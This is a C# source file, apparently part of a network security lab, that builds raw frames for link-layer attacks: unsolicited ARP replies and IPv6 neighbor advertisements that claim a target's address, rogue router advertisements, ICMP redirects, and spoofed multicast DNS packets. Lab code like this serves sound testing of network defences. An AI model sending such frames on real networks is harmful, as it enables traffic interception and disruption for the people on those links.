using System.Collections.Frozen;
using System.Net;
using System.Net.NetworkInformation;
using Exeat.Lab.Topology;
using Exeat.Linux;
using Exeat.Names;
using Exeat.Wire;

namespace Exeat.Lab.Attacks;

/// <summary>Lies on the link itself, in frames of the agent's making: whose address is where, who the router is, and what is said to groups (K8, K9).</summary>
internal static class LinkTricks
{
    private const string Link = "eth0";
    private const ushort Arp = 0x0806;
    private static readonly byte[] Everybody = [0xff, 0xff, 0xff, 0xff, 0xff, 0xff], AllNodes = [0x33, 0x33, 0, 0, 0, 1];
    private static readonly Address AllNodesAddress = Crafted.Of(IPAddress.Parse("ff02::1"));

    public static readonly FrozenSet<string> Kinds = FrozenSet.ToFrozenSet(["claim-address", "router-advert", "link-redirect", "link-group"]);

    public static Task<bool> RunAsync(string kind, AttackTarget target)
    {
        byte[] own = [.. NetworkInterface.GetAllNetworkInterfaces().Single(i => i.Name == Link).GetPhysicalAddress().GetAddressBytes()];
        Address claimed = Crafted.Of(target.Address), linkLocal = LinkLocal(own);
        using var link = new RawLink(Link);
        Errno error = (kind, claimed.IsV4) switch
        {
            // The target's address is mine: an answer that nobody asked for.
            ("claim-address", true) => link.SendFrame([.. Everybody, .. own, Arp >> 8, Arp & 0xff, 0, 1, 8, 0, 6, 4, 0, 2, .. own, .. Bytes(claimed), .. own, .. Bytes(claimed)]),
            // Override, with the target link-layer address (RFC 4861, 4.4).
            ("claim-address", false) => link.Send(AllNodes, Message(claimed, AllNodesAddress, 136, 0x2000_0000, [.. Bytes(claimed), 2, 1, .. own])),
            // A router for everything, and the only prefix (RFC 4861, 4.2 and 4.6.2).
            ("router-advert", _) => link.Send(AllNodes, Message(linkLocal, AllNodesAddress, 134, 0x40_00_07_08, [0, 0, 0, 0, 0, 0, 0, 0, 1, 1, .. own, 3, 4, 64, 0xc0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0, .. Bytes(claimed)])),
            ("link-redirect", true) => link.Send(GatewayHardware(), Crafted.Write(Redirect4(target))),
            ("link-redirect", false) => link.Send(GatewayHardware(), Message(linkLocal, Gateway(target), 137, 0, [.. Bytes(linkLocal), .. Bytes(claimed), 2, 1, .. own])),
            ("link-group", true) => link.Send([1, 0, 0x5e, 0, 0, 0xfb], Crafted.Write(ToGroup(target, "224.0.0.251"))),
            ("link-group", false) => link.Send([0x33, 0x33, 0, 0, 0, 0xfb], Crafted.Write(ToGroup(target, "ff02::fb"))),
            _ => throw new LabException($"no trick on the link is named {kind}"),
        };
        if (error != Errno.None) throw new LabException($"{kind}: the agent's own kernel refused: {error}");
        return Task.FromResult(true);
    }

    private static PacketDraft ToGroup(AttackTarget target, string group) => Crafted.Datagram(target) with { Destination = Crafted.Of(IPAddress.Parse(group)), SourcePort = 5353, DestinationPort = 5353, HopLimit = 255 };

    // RFC 792: the way to the target leads over the agent. Said by the agent, of a packet that the gateway is to have sent.
    private static PacketDraft Redirect4(AttackTarget target)
    {
        LabAgent own = Own(target);
        byte[] quoted = Crafted.Write(new PacketDraft { Source = Parse(own.Gateway4), Destination = Crafted.Of(target.Address), Protocol = IpProtocol.Udp, SourcePort = 53, DestinationPort = 53 });
        return new PacketDraft
        {
            Source = Parse(own.Address4),
            Destination = Parse(own.Gateway4),
            Protocol = IpProtocol.Icmp,
            IcmpType = 5,
            IcmpCode = 1,
            IcmpRest = (uint)Parse(own.Address4).Bits,
            Payload = quoted,
        };
    }

    private static byte[] Message(Address from, Address to, byte type, uint rest, byte[] body) => Crafted.Write(new PacketDraft
    {
        Source = from,
        Destination = to,
        Protocol = IpProtocol.IcmpV6,
        IcmpType = type,
        IcmpRest = rest,
        HopLimit = 255,
        Payload = body,
    });

    private static LabAgent Own(AttackTarget target) =>
        LabPlan.Agents.FirstOrDefault(a => Parse(a.Address(target.Address.GetAddressBytes().Length == 4 ? 4 : 6)) == Crafted.Own(target)) ?? throw new LabException("not an agent's namespace");

    private static Address Gateway(AttackTarget target) => Parse(Own(target).Gateway6);

    private static byte[] GatewayHardware()
    {
        string own = Convert.ToHexString(NetworkInterface.GetAllNetworkInterfaces().Single(i => i.Name == Link).GetPhysicalAddress().GetAddressBytes());
        LabAgent agent = LabPlan.Agents.FirstOrDefault(a => Hex(a.Mac) == own) ?? throw new LabException("not an agent's link");
        return Convert.FromHexString(Hex(agent.GatewayMac));
    }

    // RFC 4291, appendix A.
    private static Address LinkLocal(byte[] hardware) => Address.FromBytes([0xfe, 0x80, 0, 0, 0, 0, 0, 0, (byte)(hardware[0] ^ 2), hardware[1], hardware[2], 0xff, 0xfe, hardware[3], hardware[4], hardware[5]]);

    private static string Hex(string mac) => mac.Replace(":", "", StringComparison.Ordinal).ToUpperInvariant();

    private static byte[] Bytes(Address address)
    {
        byte[] bytes = new byte[address.IsV4 ? 4 : 16];
        address.WriteTo(bytes);
        return bytes;
    }

    private static Address Parse(string text) => Crafted.Of(IPAddress.Parse(text));
}
